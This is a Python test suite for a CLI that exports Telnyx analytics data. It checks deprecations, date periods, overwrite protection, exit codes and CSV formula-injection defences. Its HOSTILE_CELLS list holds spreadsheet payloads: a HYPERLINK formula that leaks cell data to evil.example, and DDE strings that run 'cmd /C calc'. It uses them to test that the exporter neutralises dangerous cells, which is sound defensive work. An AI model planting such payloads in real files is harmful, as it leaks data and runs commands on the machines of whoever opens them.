"""``telnyx-analytics export``: one vocabulary, periods, safe files, honest exit statuses.

Against the sandbox, or the misbehaving server (``tests/hostile.py``) where an answer must
carry hostile values or be malformed; Ctrl-C is a real SIGINT to a real process.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs

import pandas as pd
import pytest
from hostile import Answer, Seen

from telnyx_analytics import _dates
from telnyx_analytics.cli import main

ROOT = Path(__file__).resolve().parents[1]
MAY = ["--start", "2024-05-01", "--end", "2024-05-02"]


# Every test: a cache of its own, the sandbox's key, no base URL from outside (conftest).
pytestmark = pytest.mark.usefixtures("cli_environment")


def _error_line(err: str) -> str:
    assert err.count("\n") == 1 and "Traceback" not in err, err
    return err.strip()


# -- one vocabulary ------------------------------------------------------------------------


def test_old_spellings_work_with_one_deprecation_line(
    sandbox_factory: Any, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    sandbox = sandbox_factory(seed=4, days=5)  # its own: the request log is this test's
    base = ["--start", "-3d", "--base-url", sandbox.base_url, "--no-cache"]
    with _dates.frozen_now(pd.Timestamp.now(tz="UTC")):
        assert main(["export", "mdr_usage", *base, "--out", str(tmp_path / "new.parquet")]) == 0
        assert capsys.readouterr().err == ""
        assert main(["export", "mdr-usage", *base, "--out", str(tmp_path / "old.parquet")]) == 0
    warning = _error_line(capsys.readouterr().err)
    assert "'mdr-usage' is deprecated" in warning and "'mdr_usage'" in warning
    # One kind, whatever the spelling: the same frame.
    pd.testing.assert_frame_equal(
        pd.read_parquet(tmp_path / "new.parquet"), pd.read_parquet(tmp_path / "old.parquet")
    )
    # mdr_usage is fetched synchronously: no report is requested for it.
    assert not [r for r in sandbox.requests if r.path.endswith("/reports/mdr_usage_reports")]


def test_an_unknown_kind_lists_the_kinds(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["export", "mdr-usages", *MAY, "--out", "x.csv"]) == 2
    line = _error_line(capsys.readouterr().err)
    assert "'mdr-usages'" in line and "call_events" in line and "cdrs" in line


def test_named_periods_reach_the_api_resolved(
    sandbox: Any, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "m.csv"
    with _dates.frozen_now("2026-03-15T10:30:00Z"):
        assert main(["export", "mdrs", "--start", "last_month", "--out", str(out),
                     "--base-url", sandbox.base_url, "--no-cache"]) == 0  # fmt: skip
    sent = parse_qs([r for r in sandbox.requests if r.path.endswith("/reports/mdrs")][-1].query)
    assert sent["start_date"] == ["2026-02-01T00:00:00Z"]
    assert sent["end_date"] == ["2026-02-28T23:59:59.999999Z"]


@pytest.mark.parametrize(
    ("argv", "named"),
    [
        (["mdrs", "--start", "11/01/2026", "--end", "2026-11-02"], "11/01/2026"),
        (["mdrs", "--start", "2026-11-01", "--end", "Nov 2"], "Nov 2"),
        (["mdrs", "--start", "2026-11-01"], "--end"),
        (["phone_numbers_csv", "--start", "last_month"], "takes no window"),
        (["cdr_usage", *MAY, "--filter", "aggregation=city"], "aggregation"),
    ],
)
def test_usage_errors_name_what_to_fix_before_any_request(
    sandbox_factory: Any, tmp_path: Path, capsys: pytest.CaptureFixture[str],
    argv: list[str], named: str,
) -> None:  # fmt: skip
    sb = sandbox_factory(seed=3, days=2)
    assert main(["export", *argv, "--out", str(tmp_path / "x.csv"), "--base-url", sb.base_url]) == 2
    assert named in _error_line(capsys.readouterr().err)
    assert sb.requests == []


# -- files ------------------------------------------------------------------------------------


def test_an_existing_file_is_replaced_only_with_force(
    sandbox: Any, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "m.csv"
    out.write_text("precious\n")
    argv = ["export", "mdrs", "--start", "-2d", "--limit", "3", "--out", str(out),
            "--base-url", sandbox.base_url, "--no-cache"]  # fmt: skip
    before = len(sandbox.requests)
    assert main(argv) == 2
    assert "--force" in _error_line(capsys.readouterr().err)
    assert out.read_text() == "precious\n"
    assert len(sandbox.requests) == before  # refused before fetching anything
    assert main([*argv, "--force"]) == 0
    assert len(pd.read_csv(out)) == 3
    assert not list(tmp_path.glob(".*.tmp"))


HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "  =1+1",
    "\t=1+1",
]


def _mdr(i: int, profile: str, cost: str) -> dict[str, Any]:
    return {
        "id": f"m-{i}", "created_at": "2024-05-01T10:00:00Z", "direction": "outbound",
        "message_type": "SMS", "status": "delivered", "cli": "+13125550001",
        "cld": "-15550002", "profile_name": profile, "parts": 1, "rate": "0.0040",
        "cost": cost, "currency": "USD", "record_type": "mdr",
    }  # fmt: skip


def _mdrs_server(hostile: Any) -> Any:
    records = [_mdr(i, cell, "-0.0040" if i % 2 else "0.0040")
               for i, cell in enumerate(HOSTILE_CELLS)]  # fmt: skip
    meta = {"total_pages": 1, "total_results": len(records), "page_number": 1, "page_size": 250}

    def answer(req: Seen) -> Answer:
        return Answer.json({"data": records, "meta": meta})

    return hostile(answer)


def test_csv_cells_that_would_run_as_formulas_are_neutralised(
    hostile: Any, tmp_path: Path
) -> None:
    srv = _mdrs_server(hostile)
    out = tmp_path / "safe.csv"
    assert main(["export", "mdrs", *MAY, "--out", str(out), "--base-url", srv.base_url,
                 "--no-cache"]) == 0  # fmt: skip
    got = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert got["profile_name"].tolist() == ["'" + cell for cell in HOSTILE_CELLS]
    # Numbers stay numbers: negative money, and text that is a plain number (a phone
    # number in E.164, a negative-looking number) opens as a number, never as code.
    assert got["cost"].tolist() == ["0.004", "-0.004"] * 3 or all(
        float(c) == (-0.004 if i % 2 else 0.004) for i, c in enumerate(got["cost"])
    )
    assert set(got["cli"]) == {"+13125550001"} and set(got["cld"]) == {"-15550002"}
    assert not any(c.startswith("'") for c in got["cost"])


def test_raw_csv_keeps_cells_as_they_came(hostile: Any, tmp_path: Path) -> None:
    srv = _mdrs_server(hostile)
    out = tmp_path / "raw.csv"
    assert main(["export", "mdrs", *MAY, "--out", str(out), "--base-url", srv.base_url,
                 "--no-cache", "--raw-csv"]) == 0  # fmt: skip
    got = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert got["profile_name"].tolist() == HOSTILE_CELLS


def test_parquet_is_written_as_fetched(hostile: Any, tmp_path: Path) -> None:
    srv = _mdrs_server(hostile)
    out = tmp_path / "m.parquet"
    assert main(["export", "mdrs", *MAY, "--out", str(out), "--base-url", srv.base_url,
                 "--no-cache"]) == 0  # fmt: skip
    assert pd.read_parquet(out)["profile_name"].tolist() == HOSTILE_CELLS


# -- exit statuses ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "body",
    [{"data": "not an object"}, {"data": {"result": "not a list"}}, ["a", "bare", "list"],
     "<html><body>Bad gateway</body></html>"],
)
def test_a_malformed_answer_is_a_failure_not_a_usage_error(
    hostile: Any, tmp_path: Path, capsys: pytest.CaptureFixture[str], body: Any
) -> None:
    srv = hostile(lambda req: Answer.json(body))
    out = tmp_path / "u.csv"
    code = main(["export", "cdr_usage", *MAY, "--out", str(out), "--base-url", srv.base_url,
                 "--no-cache"])  # fmt: skip
    assert code == 1
    assert "cdr_usage" in _error_line(capsys.readouterr().err)
    assert not out.exists()


def _interrupt_export(argv: list[str], cwd: Path, env: dict[str, str],
                      started: Any, timeout: float) -> tuple[int, str, str]:
    """Run ``telnyx-analytics export *argv`` in a real process, press Ctrl-C once
    ``started()`` says a request arrived, and return its exit status, stdout and stderr
    (within ``timeout`` seconds of the signal)."""
    path = os.pathsep.join([str(ROOT), os.environ.get("PYTHONPATH", "")])
    proc = subprocess.Popen(
        [sys.executable, "-m", "telnyx_analytics.cli", "export", *argv], cwd=cwd,
        env={**os.environ, "TELNYX_API_KEY": "KEY_ctrl_c", **env, "PYTHONPATH": path},
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    deadline = time.monotonic() + 60
    while not started() and proc.poll() is None and time.monotonic() < deadline:
        time.sleep(0.05)
    assert proc.poll() is None, proc.communicate()
    proc.send_signal(signal.SIGINT)
    stdout, stderr = proc.communicate(timeout=timeout)
    return proc.returncode, stdout, stderr


@pytest.mark.slow
def test_ctrl_c_exits_130_with_one_line(sandbox_factory: Any, tmp_path: Path) -> None:
    # Slow answers: the export is mid-listing when the signal arrives.
    sb = sandbox_factory(seed=6, days=5, latency_ms=400)
    out = tmp_path / "w.parquet"
    code, stdout, stderr = _interrupt_export(
        ["wdrs", "--start", "-5d", "--out", str(out), "--base-url", sb.base_url, "--no-progress"],
        tmp_path, {"TELNYX_ANALYTICS_CACHE": str(tmp_path / "c.sqlite")}, lambda: sb.requests,
        timeout=60)
    assert code == 130, stderr
    assert stderr == "telnyx-analytics: interrupted; run it again to resume from the cache\n"
    assert stdout == ""
    assert not out.exists() and not list(tmp_path.glob(".*.tmp"))
    json.dumps(stderr)  # one plain line


@pytest.mark.slow
def test_ctrl_c_does_not_wait_for_a_page_in_flight(hostile: Any, tmp_path: Path) -> None:
    # The page takes 60 s: after Ctrl-C nothing waits for it, neither the command nor the
    # interpreter's exit (which joins worker threads).
    srv = hostile(lambda req: Answer.json({"data": [], "meta": {}}, delay=60))
    # 20 s to exit: far less than the 60 s the page takes.
    code, _, stderr = _interrupt_export(
        ["mdrs", *MAY, "--out", str(tmp_path / "m.csv"), "--base-url", srv.base_url,
         "--no-cache"], tmp_path, {}, lambda: srv.seen, timeout=20)  # fmt: skip
    assert code == 130
    assert stderr == "telnyx-analytics: interrupted\n"
